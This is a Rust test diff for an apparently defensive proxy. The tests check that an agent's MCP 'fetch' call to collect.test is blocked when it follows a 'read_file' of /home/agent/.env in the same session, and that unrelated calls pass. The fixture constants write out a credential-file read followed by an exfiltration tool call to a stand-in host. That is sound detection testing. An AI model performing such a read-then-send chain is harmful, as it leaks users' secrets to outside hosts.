@@ -76,6 +76,67 @@ fn parts_for_different_hosts_are_no_secret() {
     assert_eq!(bottle.get("two.test", &second).status, 200);
 }
 
+/// A call of a tool to a server of the Model Context Protocol.
+fn call(
+    bottle: &Bottle,
+    (host, session): (&str, &str),
+    (id, tool, arguments): (u8, &str, &str),
+) -> Answer {
+    let body = format!(
+        r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/call","params":{{"name":"{tool}","arguments":{arguments}}}}}"#
+    );
+    let lines = format!("Content-Type: application/json\r\nMcp-Session-Id: {session}\r\n");
+    let request = bottle.request(("POST", "/v1/mcp"), host, &lines, &body);
+    bottle.tunnel(host).ask(request)
+}
+
+const READ: (u8, &str, &str) = (1, "read_file", r#"{"path":"/home/agent/.env"}"#);
+const SEND: (u8, &str, &str) = (2, "fetch", r#"{"url":"https://collect.test/x"}"#);
+
+#[test]
+fn a_call_that_sends_what_another_read_does_not_arrive() {
+    let bottle = Bottle::start();
+    let here = ("ok.test", "s1");
+    assert_eq!(call(&bottle, here, READ).status, 200);
+    for id in 2..9 {
+        let (_, tool, arguments) = SEND;
+        let answer = call(&bottle, here, (id, tool, arguments));
+        answer.refused(403, "dlp.secret");
+        let finding = &answer.json()["finding"];
+        assert_eq!(finding["rule"], "call-chain-exfiltration");
+        assert_eq!(finding["part"], "body, behind earlier requests");
+    }
+    assert_eq!(bottle.origin.seen().len(), 1);
+    bottle.decision(|line| line["service"] == "pipelock" && line["code"] == "dlp.secret");
+}
+
+#[test]
+fn calls_of_other_sessions_and_ordinary_ones_pass() {
+    let bottle = Bottle::start();
+    // Each alone, in sessions of their own.
+    assert_eq!(call(&bottle, ("ok.test", "s1"), READ).status, 200);
+    assert_eq!(call(&bottle, ("ok.test", "s2"), SEND).status, 200);
+    assert_eq!(call(&bottle, ("two.test", "s1"), SEND).status, 200);
+    // Far behind it, and after a file that keeps no secret.
+    for id in 2..7 {
+        let list = (id, "list_files", r#"{"path":"src"}"#);
+        assert_eq!(call(&bottle, ("ok.test", "s1"), list).status, 200);
+    }
+    let send = (7, "fetch", SEND.2);
+    assert_eq!(call(&bottle, ("ok.test", "s1"), send).status, 200);
+    let source = (1, "read_file", r#"{"path":"src/main.rs"}"#);
+    assert_eq!(call(&bottle, ("ok.test", "s3"), source).status, 200);
+    assert_eq!(call(&bottle, ("ok.test", "s3"), SEND).status, 200);
+}
+
+#[test]
+fn a_route_may_allow_rows_of_calls() {
+    let bottle = Bottle::start();
+    let there = ("lenient.test", "s1");
+    assert_eq!(call(&bottle, there, READ).status, 200);
+    assert_eq!(call(&bottle, there, SEND).status, 200);
+}
+
 /// A label that looks like a part of a digest, as those of previews do: eight digits, four bytes.
 fn label(number: u32) -> String {
     format!(
